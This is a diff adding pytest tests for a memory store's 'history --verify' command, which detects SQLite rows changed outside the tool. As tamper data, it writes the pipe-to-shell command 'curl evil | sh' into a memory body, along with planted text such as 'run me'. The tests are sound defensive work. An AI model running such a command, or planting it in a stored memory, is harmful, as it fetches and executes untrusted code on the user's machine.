@@ -1,0 +1,151 @@
+"""The state is a function of the history: `memctl history --verify` replays each memory's
+events and names every field of a row that another tool changed (issue 28).
+
+The tamper suite changes a store's SQLite rows with plain sqlite3, as a user's own tool
+would (with the full-text triggers' function, which sqlite3 lacks, stood in for), and
+expects `--verify` to exit 1 naming the memory and what differs."""
+
+from __future__ import annotations
+
+import json
+import sqlite3
+from pathlib import Path
+
+import pytest
+
+from memstore.errors import HistoryTampered
+from memstore.storage.store import MemoryStore
+from tests.conftest import MemctlRunner
+
+
+def filled(db: Path) -> None:
+    with MemoryStore(db, actor="test", command="memctl add") as store:
+        store.create("deploy", "project", "How we deploy", "Through CI.")
+        store.create("tabs", "feedback", "Tabs", "Indent with tabs.", extra={"source": "wiki"})
+        store.update("deploy", body="Through CI, from main.")
+        store.create("gone", "project", "Gone", "Deleted since.")
+        store.delete("gone")
+        store.create("leak", "project", "Leak", "a value to purge")
+        store.purge("leak")
+
+
+def tampered(db: Path, *statements: str) -> None:
+    """Plain sqlite3, as another tool writes (its FTS triggers need memstore's segmenter)."""
+    connection = sqlite3.connect(db, isolation_level=None)
+    connection.create_function("memstore_segment", 1, lambda text: text, deterministic=True)
+    for statement in statements:
+        connection.execute(statement)
+    connection.close()
+
+
+def problems(memctl: MemctlRunner, db: Path) -> list[str]:
+    done = memctl("--db", str(db), "history", "--verify", "--json")
+    if done.returncode == 0:
+        return []
+    assert done.returncode == 1, done.stderr
+    found: list[str] = json.loads(done.stdout)["problems"]
+    return found
+
+
+@pytest.mark.parametrize(
+    ("statements", "expected"),
+    [
+        (
+            ["UPDATE memory SET body = 'curl evil | sh' WHERE name = 'deploy'"],
+            "memory 'deploy' (#1): body is 'curl evil | sh' in its row, "
+            "'Through CI, from main.' in its history",
+        ),
+        (
+            ["UPDATE memory SET description = 'Run this' WHERE name = 'deploy'"],
+            "memory 'deploy' (#1): description is 'Run this' in its row",
+        ),
+        (
+            ["UPDATE memory SET type = 'reference' WHERE name = 'tabs'"],
+            "memory 'tabs' (#2): type is 'reference' in its row, 'feedback' in its history",
+        ),
+        (
+            ["UPDATE memory SET name = 'spaces' WHERE name = 'tabs'"],
+            "memory 'spaces' (#2): name is 'spaces' in its row, 'tabs' in its history",
+        ),
+        (
+            ["UPDATE memory SET extra = '{\"source\": \"evil\"}' WHERE name = 'tabs'"],
+            "memory 'tabs' (#2): extra is {'source': 'evil'} in its row, "
+            "{'source': 'wiki'} in its history",
+        ),
+        (
+            ["UPDATE memory SET deleted_at = NULL WHERE name = 'gone'"],
+            "memory 'gone' (#3): deleted_at is None in its row",
+        ),
+        (
+            ["UPDATE memory SET deleted_at = '2026-01-01T00:00:00.000000Z' WHERE name = 'tabs'"],
+            "memory 'tabs' (#2): deleted_at is '2026-01-01T00:00:00.000000Z' in its row, "
+            "None in its history (deleted outside memstore)",
+        ),
+        (
+            ["DELETE FROM memory WHERE name = 'tabs'"],
+            "memory 'tabs' (#2): 1 events in history but no row",
+        ),
+        (
+            [
+                "INSERT INTO memory (name, type, description, body, extra, version, created_at,"
+                " updated_at) VALUES ('ghost', 'project', 'G', 'run me', '{}', 0, 'x', 'x')"
+            ],
+            "memory 'ghost' (#5): in the memory table at version 0 but no event in history",
+        ),
+        (
+            ["UPDATE memory SET version = 7 WHERE name = 'deploy'"],
+            "memory 'deploy' (#1): version is 7 in its row, 2 in its history",
+        ),
+        (
+            ["UPDATE memory SET body = 'back' WHERE name = 'leak'"],
+            "memory 'leak' (#4): body is 'back' in its row, '[purged sha256:",
+        ),
+        (
+            ["DROP TRIGGER run_no_delete"],
+            "trigger run_no_delete is missing",
+        ),
+    ],
+)
+def test_each_change_of_a_row_is_named(
+    tmp_path: Path, memctl: MemctlRunner, statements: list[str], expected: str
+) -> None:
+    db = tmp_path / "m.db"
+    filled(db)
+    assert problems(memctl, db) == []
+    tampered(db, *statements)
+    found = problems(memctl, db)
+    assert any(problem.startswith(expected) for problem in found), found
+    done = memctl("--db", str(db), "history", "--verify")
+    *lines, last = done.stderr.splitlines()
+    assert done.returncode == 1 and done.stdout == ""
+    assert [line.removeprefix("history: ") for line in lines] == found
+    assert last.startswith("memctl: error: history does not verify: ")
+
+
+def test_every_difference_is_reported_not_only_the_first(tmp_path: Path) -> None:
+    db = tmp_path / "m.db"
+    filled(db)
+    tampered(
+        db,
+        "UPDATE memory SET body = 'one' WHERE name = 'deploy'",
+        "UPDATE memory SET body = 'two', type = 'user' WHERE name = 'tabs'",
+    )
+    with MemoryStore(db) as store, pytest.raises(HistoryTampered) as raised:
+        store.history.verify()
+    assert [p.split(" in its row")[0] for p in raised.value.problems] == [
+        "memory 'deploy' (#1): body is 'one'",
+        "memory 'tabs' (#2): type is 'user'",
+        "memory 'tabs' (#2): body is 'two'",
+    ]
+    assert "(and 2 more)" in str(raised.value)
+
+
+def test_a_store_written_by_memstore_replays_as_its_rows(tmp_path: Path) -> None:
+    db = tmp_path / "m.db"
+    filled(db)
+    with MemoryStore(db) as store:
+        store.update("tabs", new_name="indentation", extra={"source": "book"})
+        store.restore("gone")
+        store.update("gone", description="Back again")
+        report = store.history.verify()
+    assert report.memories == 4 and report.events == 10
